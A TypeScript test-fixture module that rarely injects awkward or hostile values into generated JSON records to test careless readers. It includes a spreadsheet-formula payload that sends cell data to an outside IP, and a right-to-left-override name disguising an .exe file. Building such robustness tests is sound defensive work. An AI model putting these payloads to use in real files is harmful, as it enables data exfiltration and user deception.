/** One record in this many has something awkward. */
const RARITY = 160

type Row = Record<string, unknown>

/** What a record may carry that breaks careless readers; the field names the one that takes hostile text. */
type Twist = (row: Row, field: string) => string

const TWISTS: readonly Twist[] = [
  (row) => JSON.stringify(Object.fromEntries(Object.entries(row).reverse())),
  // A key that stands twice: the last one holds, as in JSON.parse.
  (row, field) => `{"${field}":"\\u003cfirst\\u003e",${JSON.stringify(row).slice(1)}`,
  (row) => escaped(JSON.stringify(row)),
  (row) => `${JSON.stringify(row).slice(0, -1)},"sequence":9007199254740993127,"ratio":1.10,"tiny":1E-400}`,
  hostile(`${'long '.repeat(900)}end`),
  hostile('\u202Egnp.exe\u202C'),
  hostile('=HYPERLINK("http://203.0.113.9/?"&A1,"open")'),
  hostile('nul \0 bell \u0007 esc \u001b[31m c1 \u009b lone \ud83d "\'\\'),
  spread,
  hostile('caf\u00e9 \u65e5\u672c\u8a9e \ud83e\uddea e\u0301 <b>x</b>'),
]

/** The field with this text before what it held. */
function hostile(text: string): Twist {
  return (row, field) => {
    const held = row[field]
    return JSON.stringify({ ...row, [field]: typeof held === 'string' ? `${text} ${held}` : text })
  }
}

/** White space wherever JSON allows it. */
function spread(row: Row): string {
  const members = Object.entries(row).map(([key, value]) => `"${key}" :\t${JSON.stringify(value)}`)
  return `{ ${members.join(' ,\n  ')}\n}`
}

/** Slashes and everything beyond ASCII written as escapes, as some servers do. */
function escaped(json: string): string {
  return json
    .replaceAll('/', '\\/')
    .replace(/[\u0080-\uffff]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`)
}

/** The exact JSON of a record; the same hash gives the same oddity, mostly none. */
export function recordBytes(row: Row, hash: number, field: string): string {
  const at = hash % RARITY
  const twist = TWISTS[at]
  return twist ? twist(row, field) : JSON.stringify(row)
}
